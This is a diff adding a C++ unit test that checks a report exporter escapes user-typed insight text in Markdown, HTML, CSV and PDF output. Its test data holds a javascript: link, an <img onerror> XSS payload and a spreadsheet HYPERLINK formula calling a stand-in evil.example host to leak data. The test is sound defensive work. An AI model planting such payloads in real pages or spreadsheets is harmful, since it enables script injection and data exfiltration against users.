@@ -903,3 +903,28 @@ TEST(SummaryInsights, ChineseSummaryHasChineseWording) {
         if (r.size() == 23 && r[2] == kStrong) found = r[16] == "洞察" && r[18] == "强";
     EXPECT_TRUE(found);
 }
+
+TEST(SummaryInsights, AnInsightsTextIsBoardTextInEveryFormat) {
+    // An insight's title and statement are typed by people (or come from an imported canvas's
+    // group label): escaped and defused like a note's text.
+    Log log(at(2026, 8, 1));
+    const std::string a = log.add("Ordinary evidence one", "complaint", 1, at(2026, 10, 2), "2026-10-01");
+    const std::string b = log.add("Ordinary evidence two", "survey", 1, at(2026, 10, 2), "2026-10-01");
+    log.insight("[click me](javascript:alert(1)) <img src=x onerror=alert(1)>", {a, b}, 1, at(2026, 10, 3), InsightState::Draft, 0,
+                "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
+    const MonthlySummary s = log.summary(Month{2026, 10});
+    TempDir dir;
+    const std::string md = readFile(write(s, dir, "h.md"));
+    for (const char* live : {"](javascript", "<img", "http://"}) EXPECT_EQ(md.find(live), std::string::npos) << live;
+    EXPECT_NE(md.find("\\[click me\\]\\(javascript:alert\\(1\\)\\)"), std::string::npos);
+    const std::string html = readFile(write(s, dir, "h.html"));
+    EXPECT_EQ(checkWellFormed(html), "");
+    EXPECT_EQ(html.find("<img"), std::string::npos);
+    EXPECT_NE(html.find("&lt;img src=x"), std::string::npos);
+    bool crlf = false;
+    const auto rows = parseCsv(readFile(write(s, dir, "h.csv")).substr(3), crlf);
+    ASSERT_GE(rows.size(), 2u);
+    EXPECT_EQ(rows[1][16], "insight");
+    EXPECT_EQ(rows[1][3], "'=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
+    EXPECT_TRUE(contains(pdfText(write(s, dir, "h.pdf")), "[click me](javascript:alert(1))"));
+}
